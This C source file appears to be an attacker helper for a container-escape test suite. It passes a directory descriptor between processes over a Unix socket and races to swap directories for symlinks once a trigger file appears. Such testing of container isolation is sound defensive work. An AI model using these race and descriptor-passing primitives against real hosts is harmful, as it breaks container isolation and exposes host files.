// Attackers inside containers, for test_escape.py:
//
//     holder hold SOCKET NAME TARGET TRIGGER   receive a descriptor of a folder; once TRIGGER exists,
//                                              replace NAME in that folder by a link to TARGET
//     holder send SOCKET FOLDER                send a descriptor of FOLDER
//     holder race FILE LINK TARGET             once FILE exists, make LINK a link to TARGET
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static void require(int is_good, const char *what) {
    if (is_good) return;
    printf("%s: %s\n", what, strerror(errno));
    fflush(stdout);
    exit(1);
}

static void say(const char *what) {
    puts(what);
    fflush(stdout);
}

static void await_file(const char *path) {
    while (access(path, F_OK)) usleep(500);
}

int main(int count, char **words) {
    char byte = 0, control[CMSG_SPACE(sizeof(int))] = {0};
    struct iovec data = {&byte, 1};
    struct msghdr message = {
        .msg_iov = &data, .msg_iovlen = 1,
        .msg_control = control, .msg_controllen = sizeof control};
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    if (count < 4) return 64;
    strncpy(address.sun_path, words[2], sizeof address.sun_path - 1);
    int folder, peer = socket(AF_UNIX, SOCK_STREAM, 0);
    if (!strcmp(words[1], "hold")) {
        unlink(words[2]);
        require(!bind(peer, (void *)&address, sizeof address) && !listen(peer, 1), "bind");
        peer = accept(peer, NULL, NULL);
        require(recvmsg(peer, &message, 0) > 0, "recvmsg");
        memcpy(&folder, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof folder);
        say("holding");
        await_file(words[5]);
        require(!unlinkat(folder, words[3], AT_REMOVEDIR), "unlinkat");
        require(!symlinkat(words[4], folder, words[3]), "symlinkat");
        say("swapped");
    } else if (!strcmp(words[1], "send")) {
        folder = open(words[3], O_RDONLY | O_DIRECTORY);
        require(folder >= 0, "open");
        struct cmsghdr *header = CMSG_FIRSTHDR(&message);
        header->cmsg_level = SOL_SOCKET;
        header->cmsg_type = SCM_RIGHTS;
        header->cmsg_len = CMSG_LEN(sizeof folder);
        memcpy(CMSG_DATA(header), &folder, sizeof folder);
        while (connect(peer, (void *)&address, sizeof address)) usleep(10000);
        require(sendmsg(peer, &message, 0) > 0, "sendmsg");
        say("sent");
    } else {
        say("waiting");
        await_file(words[2]);
        require(!symlink(words[4], words[3]), "symlink");
        say("linked");
    }
    pause();
}
